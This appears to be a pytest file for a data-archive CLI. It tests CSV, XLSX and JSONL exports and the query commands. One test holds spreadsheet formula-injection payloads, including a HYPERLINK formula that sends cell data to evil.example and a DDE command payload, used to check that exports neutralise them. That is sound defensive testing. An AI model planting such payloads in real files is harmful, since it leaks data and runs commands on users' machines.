"""`pipeline archive ...` through click's CliRunner, and export round trips."""

from __future__ import annotations

import csv
import json

import pytest
from archive_helpers import records_for, sample_records
from click.testing import CliRunner

from pipeline.archive import Archive
from pipeline.archive.export import SHEETS
from pipeline.archive.xlsx import header as xlsx_header
from pipeline.cli import cli
from pipeline.models import Records


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "archive.sqlite"
    recs = sample_records(3)
    tricky = '=SUM(A1:A2) starts like a formula; commas, "quotes"; and a newline\nhere. Đồng Nai Social Security.'
    recs.append(
        records_for(
            tricky,
            source="corpus/tricky.txt",
            published=None,
            units=[
                {"name": "Đồng Nai Social Security", "mentions": ["a; b", "c"], "quote": "Đồng Nai Social Security"}
            ],
            warnings=["=1+1"],
        )
    )
    with Archive(path) as arc:
        for i, r in enumerate(recs):
            arc.store(r, file_hash=f"h{i}", source_key=f"/c/{i}", office="t")
    return path


def invoke(*args):
    result = CliRunner().invoke(cli, list(args))
    return result


def expected_rows(db) -> dict[str, list[dict]]:
    """The rows an export must hold, built from the records here (not with the exporter's own code)."""
    with Archive(db, create=False) as arc:
        from pipeline.archive.queries import iter_current_records

        records = list(iter_current_records(arc))
    out: dict[str, list[dict]] = {name: [] for name in SHEETS}
    for rec in records:
        doc = rec.document
        out["documents"].append(
            {
                "document_id": doc.id,
                "source": doc.source,
                "title": doc.title,
                "published": doc.published,
                "language": doc.language,
                "text": doc.text,
            }
        )
        for kind in ["events", "units", "people", "figures", "awards", "movements"]:
            for r in getattr(rec, kind):
                data = r.model_dump(mode="json")
                ev = data.pop("evidence")
                row = {"document_id": doc.id, "source": doc.source}
                row.update(
                    {k: json.dumps(v, ensure_ascii=False) if isinstance(v, list) else v for k, v in data.items()}
                )
                row.update(evidence_start=ev["start"], evidence_end=ev["end"], evidence_text=ev["text"])
                out[kind].append(row)
        out["warnings"].extend({"document_id": doc.id, "source": doc.source, "warning": w} for w in rec.warnings)
    return out


def as_text(value):
    """A value as a CSV cell reads back: text a spreadsheet would run as a formula carries a leading quote."""
    if value is None:
        return ""
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + value
    return str(value)


def test_export_csv_round_trips(db, tmp_path):
    out = tmp_path / "csv"
    result = invoke("archive", "export", "--format", "csv", "--out", str(out), "--db", str(db))
    assert result.exit_code == 0, result.output
    expected = expected_rows(db)
    for name, cols in SHEETS.items():
        with open(out / f"{name}.csv", encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert list(rows[0].keys()) == cols if rows else True
        assert rows == [{c: as_text(r.get(c)) for c in cols} for r in expected[name]], name
    assert len(expected["units"]) == 7 and len(expected["figures"]) == 3


def iso_date(value):
    """A real date in the workbook is the ISO date of the records."""
    return value.date().isoformat() if hasattr(value, "date") and callable(value.date) else value


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_export_csv_never_writes_a_live_formula(tmp_path):
    """A title, unit, person or scope name written to look like a formula is text in every CSV file."""
    db, out = tmp_path / "archive.sqlite", tmp_path / "csv"
    text = "\n".join(FORMULAS) + "\nThe review of Dong Nai Social Security.\n"
    rec = records_for(
        text,
        source="corpus/=evil.txt",
        units=[{"name": FORMULAS[1], "mentions": [FORMULAS[1]], "quote": FORMULAS[1]}],
        people=[{"name": FORMULAS[3], "unit": FORMULAS[1], "quote": FORMULAS[3]}],
        figures=[
            {"metric": "si_participants", "value": -5, "scope": FORMULAS[2], "as_of": "2025", "quote": FORMULAS[2]}
        ],
        warnings=[FORMULAS[4], FORMULAS[5]],
    )
    assert rec.document.title == FORMULAS[0]
    with Archive(db) as arc:
        arc.store(rec, file_hash="h", source_key="/c/evil", office="t")
    assert invoke("archive", "export", "--format", "csv", "--out", str(out), "--db", str(db)).exit_code == 0
    cells = []
    for path in sorted(out.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2")]
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert "-5" in cells or "-5.0" in cells  # numbers stay numbers


def test_export_xlsx_round_trips(db, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "archive.xlsx"
    result = invoke("archive", "export", "--format", "xlsx", "--out", str(out), "--db", str(db))
    assert result.exit_code == 0, result.output
    wb = load_workbook(out, read_only=True)
    expected = expected_rows(db)
    assert wb.sheetnames == list(SHEETS)
    for name, cols in SHEETS.items():
        layout = xlsx_header(name, cols)
        rows = list(wb[name].iter_rows(values_only=True))
        assert list(rows[0]) == [title for title, _, _ in layout]
        kept = [i for i, (_, _, group) in enumerate(layout) if group is None]  # label columns: test_archive_xlsx
        got = [{layout[i][1]: iso_date(r[i]) for i in kept} for r in rows[1:]]
        assert got == [{c: r.get(c) for c in cols} for r in expected[name]], name
    # text that looks like a formula stays text
    warnings = [r[2] for r in list(wb["warnings"].iter_rows(values_only=True))[1:]]
    assert "=1+1" in warnings


def test_export_jsonl_round_trips(db, tmp_path):
    out = tmp_path / "all.jsonl"
    assert invoke("archive", "export", "--format", "jsonl", "--out", str(out), "--db", str(db)).exit_code == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    with Archive(db, create=False) as arc:
        from pipeline.archive.queries import iter_current_records

        assert [Records.model_validate_json(line) for line in lines] == list(iter_current_records(arc))


def test_units_command(db):
    result = invoke("archive", "units", "--db", str(db), "--json")
    assert result.exit_code == 0, result.output
    units = json.loads(result.output)
    dong_nai = [u for u in units if u["key"] == "dong nai social security"]
    assert len(dong_nai) == 1 and dong_nai[0]["documents"] == 4
    table = invoke("archive", "units", "--db", str(db))
    assert "Dong Nai Social Security" in table.output and "Hanoi Social Security" in table.output


def test_figures_command(db):
    result = invoke(
        "archive",
        "figures",
        "--unit",
        "Dong Nai",
        "--metric",
        "si_participants",
        "--from",
        "2023",
        "--to",
        "2024",
        "--db",
        str(db),
        "--json",
    )
    assert result.exit_code == 0, result.output
    assert [r["value"] for r in json.loads(result.output)] == [1504572, 1504573]
    table = invoke("archive", "figures", "--unit", "Dong Nai", "--db", str(db))
    assert "1,504,572" in table.output
    bad = invoke("archive", "figures", "--metric", "nonsense", "--db", str(db))
    assert bad.exit_code == 2 and "nonsense" in bad.output
    unknown = invoke("archive", "figures", "--unit", "Atlantis", "--db", str(db))
    assert unknown.exit_code == 2 and "no unit in the archive matches 'Atlantis'" in unknown.output
    assert "Traceback" not in unknown.output


def test_awards_command(db):
    result = invoke("archive", "awards", "--type", "labor_order", "--year", "2024", "--db", str(db), "--json")
    assert result.exit_code == 0, result.output
    rows = json.loads(result.output)
    assert [(r["recipient"], r["year"]) for r in rows] == [("Dong Nai Social Insurance", "2024")]
    assert invoke("archive", "awards", "--db", str(db)).exit_code == 0


def test_search_command(db):
    result = invoke("archive", "search", "Labor", "Order", "--db", str(db), "--json")
    assert result.exit_code == 0, result.output
    hits = json.loads(result.output)
    assert hits and all("[Labor] [Order]" in h["snippet"] for h in hits)
    table = invoke("archive", "search", "Labor", "Order", "--db", str(db), "--limit", "1")
    assert "[Labor] [Order]" in table.output and "1 row" in table.output  # brackets shown, not eaten as markup


def test_missing_archive_is_one_line(tmp_path):
    result = invoke("archive", "units", "--db", str(tmp_path / "none.sqlite"))
    assert result.exit_code == 2
    assert "no archive at" in result.output and "Traceback" not in result.output


def test_db_from_environment(db, monkeypatch):
    monkeypatch.setenv("PIPELINE_DB", f"sqlite:///{db}")
    assert invoke("archive", "units", "--json").exit_code == 0


@pytest.mark.parametrize(
    "command",
    ["run", "archive", "archive search", "archive figures", "archive awards", "archive units", "archive export"],
)
def test_help_has_an_example(command):
    result = invoke(*command.split(), "--help")
    assert result.exit_code == 0
    assert "Example:" in result.output
